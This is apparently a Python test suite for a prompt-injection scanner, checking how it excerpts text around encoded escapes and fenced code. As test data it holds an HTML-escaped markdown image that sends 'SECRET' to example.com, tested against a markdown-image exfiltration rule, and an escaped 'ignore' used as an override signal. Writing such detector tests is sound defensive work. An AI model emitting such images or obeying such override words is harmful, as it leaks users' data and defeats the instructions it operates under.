"""Of a text with escapes in it only what is near them is read again: it says there what all of it says."""

import re
from collections.abc import Sequence

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from scanner import load_rules
from scanner.instructions.harmless.fenced_code import fenced_code
from scanner.matching.buffer.arena import Arena
from scanner.matching.encoded import excerpts
from scanner.matching.encoded.encodings import ELIDED, readings, undone
from scanner.matching.encoded.excerpts import GAP, MARGIN, WIDE, Undoing, excerpt, found_undone
from scanner.matching.spans import Span
from tests.compiled import compiled

SCANNER = compiled("redact-only")
SIGN = next(rule for rule in load_rules() if rule.category)

WORDS = st.sampled_from(["paid", "on", "Monday.", "\n", "x=1;", "aGVsbG8gd29ybGQhIQ==\n", "```\n", "\u00e9"])
FAR = st.lists(WORDS, max_size=40).flatmap(lambda words: st.integers(1, 20).map(lambda n: " ".join(words * n)))
ESCAPE = st.sampled_from(["\\u0041", "%41%42", "&amp;", "=\n", "\x07", "=41"])
TEXTS = st.lists(FAR | ESCAPE, min_size=1, max_size=9).map(" ".join)


@given(TEXTS)
def test_what_is_near_an_escape_stands_where_it_stood(text: str) -> None:
    for plain in readings(text):
        short = excerpt(plain)
        assert len(short.text) <= len(plain.text)
        escapes = [unit for unit in short.units if unit.via != ELIDED]
        assert [unit[2:] for unit in escapes] == [unit[2:] for unit in plain.units]
        for one, whole in zip(escapes, plain.units, strict=True):
            around = short.text[max(0, one.start - MARGIN) : one.end + MARGIN]
            assert around == plain.text[max(0, whole.start - MARGIN) : whole.end + MARGIN]
        for unit, following in zip(short.units, [*short.units[1:], None], strict=True):
            end = following.start if following else len(short.text)
            assert unit.via != ELIDED or short.text[unit.start : unit.end] == GAP
            stretch = short.text[unit.end : end]
            assert short.place(end, at_end=True) - unit.source_end == len(stretch) or unit.source_end == len(text)


@given(TEXTS, st.data())
def test_a_span_with_an_escape_in_it_comes_from_where_the_whole_text_has_it(text: str, data: st.DataObject) -> None:
    for plain in readings(text):
        short = excerpt(plain)
        escapes = [unit for unit in short.units if unit.via != ELIDED]
        number = data.draw(st.integers(0, len(escapes) - 1))
        before, behind = data.draw(st.integers(0, MARGIN // 2)), data.draw(st.integers(1, MARGIN // 2))
        one, whole = escapes[number], plain.units[number]
        before = min(before, whole.start)
        span = short.source_span(one.start - before, min(one.end + behind, len(short.text)))
        assert span == plain.source_span(whole.start - before, min(whole.end + behind, len(plain.text)))


def test_a_span_over_what_was_left_out_is_no_escape_by_that() -> None:
    text = f"{'word ' * 400}\\u0041{' word' * 400}"
    [plain] = readings(text)
    short = excerpt(plain)
    assert len(short.text) < len(text)
    assert short.source_span(0, 10) is None
    assert short.source_span(0, len(short.text)) == (0, len(text), "backslash")


@given(TEXTS)
@example(f"{' '.join(['paid'] * 15)} {' '.join([chr(10) + ' ```' + chr(10) + ' paid' * 15] * 15)} \\u0041")
def test_code_is_left_as_it_is_shown_or_left_out(text: str) -> None:
    for plain in readings(text):
        short = excerpt(plain, fenced_code)
        if not short.shows_code:  # then none counts as code, wherever fences are
            continue
        blocks = [plain.text[start:end] for start, end in fenced_code(plain.text)]
        left = [short.text[start:end] for start, end in fenced_code(short.text)]
        rest = iter(blocks)
        assert all(block in rest for block in left), "blocks are in order; one may stand there several times"
        assert _opened(short.text, left) <= _opened(plain.text, blocks), "a fence that ended one begins one now"


def _opened(text: str, blocks: Sequence[str]) -> int:
    """How many fences stand outside of the code that a text shows: of one that nothing closes."""
    return text.count("```") - sum(block.count("```") for block in blocks)


def _far(code: str) -> str:
    words = "word " * 400
    return f"{words}\n\n```\n{code}\n```\n\n{words}\\u0041 {words}\n\n```\n{code}\n```\n\n{words}"


def test_code_far_from_an_escape_is_left_out() -> None:
    [plain] = readings(_far("ls -l"))
    assert "`" not in excerpt(plain, fenced_code).text


def test_code_around_an_escape_is_left_as_a_whole() -> None:
    [plain] = readings(f"{_far('ls')}\n\n```\n{'ls ' * 400}\\u0041{' ls' * 400}\n```\n\n{_far('ls')}")
    short = excerpt(plain, fenced_code).text
    assert len(short) < len(plain.text)
    assert "ls " * 400 in short
    assert short.count("```") % 2 == 0


@pytest.mark.parametrize("other", ["```\nno end", "<!--\n```\nls\n```\n", "- ```\nls\n```", "a ``` b"])
def test_where_fences_may_be_mistaken_no_code_counts_in_what_is_read(other: str) -> None:
    [plain] = readings(f"{_far('ls')}\n\n{other}\n\n{'word ' * 400}")
    short = excerpt(plain, fenced_code)
    assert len(short.text) < len(plain.text)
    assert not short.shows_code
    assert excerpt(readings(_far("ls"))[0], fenced_code).shows_code


PICTURE = "&#33;[a](https://example.com/a.png?q=SECRET)"
CODE = f"\n\n```\n{PICTURE}\n```\n\n"


@pytest.mark.parametrize("far", ["word " * 400, "word " * 8_000])
def test_a_picture_counts_where_fences_may_be_mistaken_and_not_in_code(far: str) -> None:
    def signs(text: str) -> int:
        return sum(span.rule == "injection.exfiltration.markdown-image" for span in SCANNER.find(text))

    assert not signs(f"{far}{CODE}{far}")
    assert signs(f"{far}{CODE}{far}\n- ```\n{far}")
    assert signs(f"{far}{PICTURE}{far}")


def _read(text: str, escaped: str = "i&#103;nore") -> list[int]:
    """The lengths of what is read of a text with its escapes undone, in which each "ignore" is a signal."""
    arena, lengths = Arena([text]), list[int]()

    def scan(inner: Arena, _: Sequence[int]) -> dict[int, list[Span]]:
        lengths.extend(map(len, inner.texts))
        return {
            at: [Span(*place.span(), SIGN) for place in re.finditer("ignore", own)]
            for at, own in enumerate(inner.texts)
        }

    [(_, found)] = found_undone(arena, undone(arena, set(), ()), Undoing(scan, fenced_code, False, None))
    assert {text[span.start : span.end] for span in found} == {escaped}
    return lengths


def test_what_is_far_around_a_signal_is_read_again_and_a_short_text_as_a_whole() -> None:
    far = "word " * 20_000
    first, again = _read(f"{far}i&#103;nore {far}{'&amp; ' * 99}{far}i&#103;nore {far}")
    assert first < 12 * MARGIN
    assert 4 * WIDE < again < 4 * WIDE + 100
    short = f"{far[:4_000]}i&#103;nore {far[:4_000]}"
    assert _read(short)[1] == len(short) - len("&#103;") + 1


def test_so_is_what_is_far_around_one_behind_escapes_in_another_alphabet() -> None:
    far, escaped = "\uff57ord " * 20_000, "i\uff06#103;nore"
    first, again = _read(f"{far}{escaped} {far}{far}{escaped} {far}", escaped)
    assert first < 12 * MARGIN
    assert 4 * WIDE < again < 4 * WIDE + 100


@given(TEXTS, st.data())
def test_escapes_far_from_every_signal_are_no_units_of_what_is_read_again(text: str, data: st.DataObject) -> None:
    for plain in readings(text):
        units = data.draw(st.lists(st.sampled_from(plain.units), min_size=1, max_size=3, unique=True).map(sorted))
        short = excerpts._near_units(plain, units, fenced_code, 50)
        assert short.units == sorted(short.units)
        left = [unit for unit in short.units if unit.via != ELIDED]
        assert {unit[2:] for unit in units} <= {unit[2:] for unit in left}
        for unit in left:
            [whole] = [one for one in plain.units if one[2:] == unit[2:]]
            assert short.text[unit.start : unit.end] in plain.text[whole.start : whole.end]
            assert unit[2:] not in {own[2:] for own in units} or unit.end - unit.start == whole.end - whole.start
